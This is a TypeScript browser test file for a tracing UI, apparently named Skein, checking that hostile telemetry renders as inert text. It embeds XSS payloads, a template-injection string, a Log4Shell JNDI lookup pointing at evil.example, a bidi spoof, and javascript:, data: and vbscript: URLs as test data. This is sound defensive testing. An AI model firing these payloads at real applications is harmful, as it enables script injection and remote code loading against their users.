import { randomBytes } from 'node:crypto'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { apiOf } from '../harness/api.ts'
import { eventually, type SkeinUp, startUp } from '../harness/skein-process.ts'
import { launchChromium } from './chromium.ts'
import { accessibilityProblems, picture, PLAIN, sidewaysOverflow, visit } from './visit.ts'

const browser: Browser | null = await launchChromium()

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '"><svg onload=window.pwned=3>',
  '{{constructor.constructor("window.pwned = 4")()}}',
  '\u202Egnp.evil\u202C مرحبا بالعالم',
  `long-${'x'.repeat(10_000)}`,
  '👩‍👩‍👧‍👦🏴‍☠️ play 播放',
  'control\u0000\u0007\u001B[31mred\r\nnewline\ttab',
  '__proto__',
  '${jndi:ldap://evil.example/a}',
]
const ADDRESSES = ['javascript:window.pwned=5', 'data:text/html,<script>window.pwned=6</script>', 'https://good.example/path?a=1', 'vbscript:msgbox(1)']

let skein: SkeinUp
let traceId = ''

beforeAll(async () => {
  skein = await startUp()
  traceId = randomBytes(16).toString('hex')
  await send()
  await eventually(async () => expect((await apiOf(skein.api).trace(traceId)).spans).toHaveLength(HOSTILE.length * 2), 20_000, 200)
})

afterAll(async () => {
  await browser?.close()
  await skein.destroy()
})

/** One trace in which each hostile text is a service, an operation, an attribute's key and value, an event, and a status message. */
async function send(): Promise<void> {
  const now = BigInt(Date.now()) * 1_000_000n
  let parentSpanId = ''
  const resourceSpans = HOSTILE.flatMap((hostile, index) => {
    const text = (value: string) => ({ stringValue: value })
    const attributes = [
      { key: hostile.slice(0, 200), value: text(hostile) },
      ...ADDRESSES.map((address, at) => ({ key: `url.${at}`, value: text(address) })),
      { key: 'list', value: { arrayValue: { values: [text(hostile), { intValue: '9007199254740993' }] } } },
    ]
    const span = (kind: number, more: object) => {
      const spanId = randomBytes(8).toString('hex')
      const one = {
        traceId,
        spanId,
        parentSpanId,
        kind,
        name: hostile,
        startTimeUnixNano: String(now - 5_000_000_000n + BigInt(index) * 10_000_000n),
        endTimeUnixNano: String(now - BigInt(index) * 10_000_000n),
        attributes,
        events: [{ timeUnixNano: String(now), name: hostile, attributes }],
        status: { code: 2, message: hostile },
        ...more,
      }
      parentSpanId = spanId
      return one
    }
    const service = (name: string, spans: object[]) => ({
      resource: {
        attributes: [
          { key: 'service.name', value: text(name) },
          { key: 'deployment.environment.name', value: text('<b>env</b>') },
        ],
      },
      scopeSpans: [{ scope: { name: hostile }, spans }],
    })
    return [service(hostile, [span(2, {}), span(3, {})])]
  })
  const response = await fetch(`${skein.otlpHttp}/v1/traces`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ resourceSpans }),
  })
  expect(response.status).toBe(200)
}

describe.skipIf(browser === null)('hostile telemetry', () => {
  it.each(['/', '/map', '/map?view=table', '/services', '/traces', '/intake', 'trace', 'service'])(
    'on %s is text: nothing runs, nothing loads, the layout holds',
    async (name) => {
      if (browser === null) return
      const services = (await apiOf(skein.api).topology()).nodes.map((node) => node.name)
      const scripted = services.find((service) => service.includes('<script>')) ?? ''
      expect(scripted).toBe(HOSTILE[0])
      const path = name === 'trace' ? `/trace?id=${traceId}` : name === 'service' ? `/service?name=${encodeURIComponent(scripted)}` : name
      const foreign: string[] = []
      const { page, problems, close } = await visit(browser, 'about:blank')
      page.on('request', (request) => {
        if (!request.url().startsWith(skein.api) && !/^(about|blob|data):/.test(request.url())) foreign.push(request.url())
      })
      await page.goto(`${skein.api}${path}${path.includes('?') ? '&' : '?'}lang=en&theme=light`)
      await expect
        .poll(() => page.locator('body').evaluate((body) => body.textContent), { timeout: 10_000 })
        .toMatch(name === '/intake' ? /Accepted/ : /window\.pwned/)
      await picture(page, `hostile-${name.replaceAll(/[^a-z]+/g, '-')}`)
      expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
      expect(await page.locator('#main script, #main img, #main svg[onload], #main iframe').count()).toBe(0)
      expect(await sidewaysOverflow(page)).toBe(0)
      expect(foreign).toEqual([])
      expect(await accessibilityProblems(page)).toEqual([])
      expect(problems).toEqual([])
      await close()
    },
  )

  it('in attributes links only to http and https, away from here and without a way back', async () => {
    if (browser === null) return
    const { page, problems, close } = await visit(browser, `${skein.api}/trace?id=${traceId}&lang=en&theme=light`, PLAIN)
    const grid = page.getByRole('treegrid')
    await grid.getByRole('row').first().click()
    const panel = page.getByRole('complementary')
    await panel.getByText('url.0').first().waitFor()
    const links = await panel
      .locator('a')
      .evaluateAll((all) => all.map((link) => ({ href: link.getAttribute('href') ?? '', rel: link.getAttribute('rel') ?? '' })))
    expect(links.filter(({ href }) => /^\s*(javascript|data|vbscript):/i.test(href))).toEqual([])
    const outside = links.filter(({ href }) => /^https?:/.test(href))
    expect(new Set(outside.map(({ href }) => href))).toEqual(new Set([ADDRESSES[2]]))
    for (const { rel } of outside) expect(rel).toContain('noopener')
    expect(await panel.innerText()).toContain('9007199254740993')
    for (let row = 1; row < HOSTILE.length * 2; row++) {
      await page.keyboard.press('ArrowDown')
    }
    await grid.focus()
    for (let row = 1; row < HOSTILE.length * 2; row++) await page.keyboard.press('ArrowDown')
    await picture(page, 'hostile-span')
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    expect(await sidewaysOverflow(page)).toBe(0)
    expect(problems).toEqual([])
    await close()
  })
})
